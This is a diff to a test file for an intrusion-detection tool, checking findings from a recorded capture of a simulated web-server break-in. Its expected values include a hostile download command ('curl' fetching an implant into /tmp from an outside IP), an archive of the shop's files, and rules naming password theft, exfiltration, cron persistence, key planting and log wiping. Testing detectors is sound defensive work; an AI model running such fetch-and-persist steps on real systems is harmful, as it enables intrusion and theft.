@@ -1,9 +1,10 @@
+import { execFileSync } from 'node:child_process';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { type CheckOptions, check, readRules } from '../../src/check/check.js';
 import { findingsWithEvidence } from '../../src/check/evidence.js';
 import type { ReportedFinding } from '../../src/check/finding.js';
-import { fixtures } from '../helpers/corpus.js';
+import { fixtures, root } from '../helpers/corpus.js';
 
 const capture = join(fixtures, 'incident.scap');
 const rules = join(fixtures, 'rules/incident.yaml');
@@ -29,9 +30,13 @@ describe('the incident', () => {
       ['Web server downloads from outside', 'curl', 1],
       ['File of temporary files is made a program', 'chmod', 1],
       ['Program runs from a directory for temporary files', '.u', 1],
+      ['Accounts are listed', '.u', 1],
       ['Passwords are read', '.u', 1],
-      ['Data leaves for another network', '.u', 4],
+      ['Data leaves for another network', '.u', 7],
       ['Scheduled job is written', '.u', 1],
+      ['Key for logging in is added', '.u', 1],
+      ['Archive is made for a program of temporary files', 'tar', 1],
+      ['Log is emptied', '.u', 1],
       ['Program removes itself', '.u', 1],
     ]);
     expect(
@@ -42,6 +47,28 @@ describe('the incident', () => {
     ]);
   });
 
+  it('shows who did what: processes, commands, files, connections', () => {
+    const named = (name: string) => plain.findings.find(({ rule }) => rule === name);
+    const archive = named('Archive is made for a program of temporary files')?.process;
+    expect(archive).toMatchObject({ cmdline: 'tar -cf /tmp/.d /srv/shop', exepath: '/usr/bin/tar', cwd: '/' });
+    expect(archive?.ancestors.map(({ name, exepath }) => [name, exepath])).toEqual([
+      ['.u', '/tmp/.u'],
+      ['sh', '/bin/sh'],
+      ['nginx', '/usr/sbin/nginx'],
+      ['nginx', '/usr/sbin/nginx'],
+      ['shop-init', '/sbin/shop-init'],
+    ]);
+    expect(named('Web server downloads from outside')).toMatchObject({
+      process: { cmdline: 'curl -so /tmp/.u http://203.0.113.66/u', uid: 65534 },
+      connection: { protocol: 'tcp', client: { ip: '10.0.0.7' }, server: { ip: '203.0.113.66', port: 80 } },
+      container: { id: '7d1c0a9be442' },
+    });
+    expect(named('Scheduled job is written')).toMatchObject({
+      process: { name: '.u', uid: 0 },
+      file: { path: '/etc/cron.d/updates' },
+    });
+  });
+
   it('has ids that every run gives', async () => {
     const ids = plain.findings.map(({ id }) => id);
     expect(new Set(ids).size).toBe(ids.length);
@@ -49,17 +76,17 @@ describe('the incident', () => {
     expect((await found({ evidence: 1, suppress, today: '2026-11-29' })).findings.map(({ id }) => id)).toEqual(ids);
     const all = (await found({ all: true })).findings.filter(({ rule }) => rule.startsWith('Data'));
     const first = plain.findings.find(({ rule }) => rule.startsWith('Data'))?.id;
-    expect(all.map(({ id }) => id)).toEqual([first, `${first}-2`, `${first}-3`, `${first}-4`]);
+    expect(all.map(({ id }) => id)).toEqual([first, ...[2, 3, 4, 5, 6, 7].map((nth) => `${first}-${nth}`)]);
   });
 
   it('has the events of the thread around each finding', async () => {
     const { findings } = await found({ evidence: 2 });
     const job = findings.find(({ rule }) => rule === 'Scheduled job is written');
     expect(job?.evidence?.map(({ eventType, text }) => [eventType, text.slice(0, 40)])).toEqual([
-      ['sendto', expect.stringContaining('res=1280')],
+      ['sendto', expect.stringContaining('res=54')],
       ['close', expect.any(String)],
       ['openat', expect.stringContaining('/etc/cron.d')],
-      ['write', expect.stringContaining('res=54')],
+      ['write', expect.stringContaining('res=50')],
       ['close', expect.any(String)],
     ]);
     expect(job?.evidence?.[2]).toMatchObject({ number: job?.eventNumber, ts: job?.ts });
@@ -69,13 +96,13 @@ describe('the incident', () => {
       expect(evidence?.length).toBeLessThanOrEqual(5);
     }
     const start = findings.find(({ rule }) => rule.startsWith('Program runs'));
-    expect(start?.evidence?.map(({ eventType }) => eventType)).toEqual(['clone', 'execve', 'openat', 'setuid']);
+    expect(start?.evidence?.map(({ eventType }) => eventType)).toEqual(['clone', 'execve', 'openat', 'read']);
   });
 
   it('has all events of a thread where so many are asked for, and the same with --all', async () => {
-    const { findings } = await found({ evidence: 50, all: true });
+    const { findings } = await found({ evidence: 200, all: true });
     const implant = findings.filter(({ process }) => process?.name === '.u');
-    expect(implant).toHaveLength(8);
+    expect(implant).toHaveLength(14);
     for (const { evidence } of implant.slice(1)) expect(evidence).toEqual(implant[0]?.evidence);
   });
 
@@ -102,6 +129,18 @@ describe('the incident', () => {
   it('cannot be read again from standard input', () => {
     expect(() => check('-', { rules: readRules(rules), evidence: 1 })).toThrow('standard input cannot be');
   });
+});
+
+it('was recorded, and says nothing of the machine that did it', () => {
+  const sfkit = (...args: string[]) =>
+    execFileSync(process.execPath, [join(root, 'bin/run.js'), ...args], { encoding: 'utf8', stdio: 'pipe' });
+  const [info] = JSON.parse(sfkit('info', capture, '--json'));
+  expect(info).toMatchObject({ hostname: 'shop-host', bootTime: null, threads: 0, descriptors: 0, users: 2 });
+  const programs = sfkit('events', capture, '--filter', 'evt.type = execve', '-p', '%evt.arg.env');
+  expect(programs.trimEnd().split('\n')).toEqual(Array(10).fill('PATH=/usr/bin:/bin LANG=C.UTF-8'));
+  const directories = /^\/(bin|etc|root|sbin|srv|tmp|usr|var)\/[a-z./_]+$/;
+  const opened = sfkit('events', capture, '--filter', 'evt.type = openat', '-p', '%evt.arg.name');
+  for (const path of opened.trimEnd().split('\n')) expect(path).toMatch(directories);
 });
 
 it('evidence is bounded', () => {
